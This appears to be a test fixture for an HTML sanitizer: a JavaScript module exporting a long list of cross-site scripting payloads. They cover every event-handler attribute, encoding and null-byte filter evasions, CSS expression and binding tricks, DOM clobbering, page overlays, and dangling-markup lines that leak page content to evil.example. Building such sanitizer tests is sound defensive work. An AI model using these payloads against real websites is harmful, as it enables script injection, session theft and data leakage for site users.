const HANDLERS =
  'onabort onafterprint onanimationend onanimationiteration onanimationstart onauxclick onbeforecopy onbeforecut ' +
  'onbeforeinput onbeforematch onbeforepaste onbeforetoggle onblur oncancel oncanplay onchange onclick onclose ' +
  'oncontentvisibilityautostatechange oncontextmenu oncopy oncut ondblclick ondrag ondragend ondragenter ondragleave ' +
  'ondragover ondragstart ondrop onended onerror onfocus onfocusin onfocusout onformdata onfullscreenchange ' +
  'ongotpointercapture oninput oninvalid onkeydown onkeypress onkeyup onload onloadeddata onloadstart ' +
  'onlostpointercapture onmousedown onmouseenter onmouseleave onmousemove onmouseout onmouseover onmouseup ' +
  'onmousewheel onpaste onpointercancel onpointerdown onpointerenter onpointerleave onpointermove onpointerout ' +
  'onpointerover onpointerrawupdate onpointerup onprogress onreset onresize onscroll onscrollend onscrollsnapchange ' +
  'onsearch onseeked onselect onselectionchange onselectstart onshow onsubmit ontoggle ontouchend ontouchmove ' +
  'ontouchstart ontransitioncancel ontransitionend ontransitionrun ontransitionstart onunhandledrejection onunload ' +
  'onwebkitanimationend onwebkittransitionend onwheel'

/** Attributes that run, load, hide or take the place of something. */
export const ATTRIBUTES = HANDLERS.split(' ')
  .map((handler) => `<p ${handler}="alert(1)" contenteditable tabindex=0 draggable=true>x</p>`)
  .concat([
    '<img src=x onerror=alert(1)>',
    '<img src=x:x onerror="&#97;lert(1)">',
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<img """><script>alert(1)</script>"\\>',
    '<img src= onmouseover="alert(1)">',
    '<img onmouseover="alert(1)">',
    '<img/src="x"/onerror="alert(1)">',
    '<img\x0bsrc=x\x0conerror=alert(1)>',
    '<img src=x onerror\x00=alert(1)>',
    '<img src=x\x00onerror=alert(1)>',
    "<img src='x'onerror=alert(1)>",
    '<img src="x"onerror="alert(1)">',
    '<img src=x OnErRoR=alert(1)>',
    '<img src=x on\u0000error=alert(1)>',
    '<img src=x ſrc=y onerror=alert(1)>',
    '<img src=x =onerror=alert(1)>',
    '<img src=x "onerror=alert(1)',
    '<img src=`x`onerror=alert(1)>',
    '<image src=x onerror=alert(1)>',
    '<b/onclick/=alert(1)>x</b>',
    '<b <script>alert(1)</script>>x</b>',
    '<a onmouseover="alert(1)">x</a>',
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    '<a href="https://ok.example\' onclick=alert(1)//">x</a>',
    '<a href=https://ok.example/"onclick=alert(1)//>x</a>',
    '<a href="https://ok.example/%22onclick=alert(1)">x</a>',
    '<a href="https://ok.example/&quot; onclick=&quot;alert(1)">x</a>',
    '<a title="</a><script>alert(1)</script>" href="#">x</a>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="background:url(https://evil.example/x)">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="xss:expr/*x*/ession(alert(1))">x</p>',
    '<p style="behavior:url(https://evil.example/x.htc)">x</p>',
    '<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>',
    '<p style=\'@import "https://evil.example/x.css"\'>x</p>',
    '<p style="position:fixed;inset:0;z-index:99999;background:#fff">in front of the page</p>',
    '<p style="animation:x" onanimationstart=alert(1)>x</p>',
    '<p class="card dialog busy">dressed up as a part of the page</p>',
    '<code class="language-js modal-open">x</code>',
    '<code class="language-javascript:alert(1)">x</code>',
    '<p hidden inert aria-hidden=true>x</p>',
    '<p id=getElementById>x</p>',
    '<img name=body src="https://ok.example/x.png"><img name=getElementById src="https://ok.example/x.png">',
    '<a id=config href="https://evil.example/"></a><a id=config name=url href="https://evil.example/">x</a>',
    '<form id=document><input name=cookie></form>',
    '<p id="main">takes the place of an id of the page</p><h2 id="search">x</h2>',
    '<p data-action="/api/admin/users/1/ban" data-confirm="x">x</p>',
    '<p slot=x part=y is=z nonce=abc>x</p>',
    '<p accesskey=x onclick=alert(1)>x</p>',
    '<td rowspan=99999999 colspan=99999999>x',
    '<table><tr><td rowspan=65534 colspan=1000 width=99999 height=99999 bgcolor=red nowrap>x',
    '<ol start=-99999999999 type=I reversed><li value=99999999999>x</ol>',
    '<font color=red size=99 face="https://evil.example">x</font>',
    '<p dir=rtl lang=xx translate=no spellcheck=true>x</p>',
    "<img src='https://evil.example/?",
    '<img src="https://evil.example/?x=<p>the rest of the page',
    "<a href='https://evil.example/?",
    '<a href="https://evil.example/"><p title="',
    '<button name=x formaction=https://evil.example/><textarea>',
    '\x00<\x00s\x00cript>alert(1)</script>',
    '\ud800<script>alert(1)</script>\udc00',
    '＜script＞alert(1)＜/script＞',
    '¼script¾alert(1)¼/script¾',
    '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    '<sCrIpT\u2028>alert(1)</sCrIpT>',
    '<svg\u00a0onload=alert(1)>',
  ])
